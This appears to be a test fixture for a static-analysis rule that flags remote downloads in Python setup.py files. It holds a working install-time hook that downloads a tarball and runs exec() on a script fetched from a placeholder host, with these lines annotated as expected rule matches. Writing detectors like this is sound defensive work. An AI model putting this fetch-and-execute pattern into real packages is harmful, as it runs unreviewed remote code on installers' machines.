import urllib.request

import requests
from setuptools import setup

TOOL_URL = "https://downloads.example.com/tool-1.0.tar.gz"


def fetch_helpers():
    # ruleid: setup-py-remote-download
    urllib.request.urlretrieve(TOOL_URL, "pkg/bin/tool.tar.gz")
    # ruleid: setup-py-remote-download
    exec(requests.get("https://example.com/post_install.py").text)


fetch_helpers()
setup(
    name="example",
    version="1.0.0",
    # ok: setup-py-remote-download
    url="https://example.com/project",
    # ok: setup-py-remote-download
    install_requires=["requests>=2.32"],
)
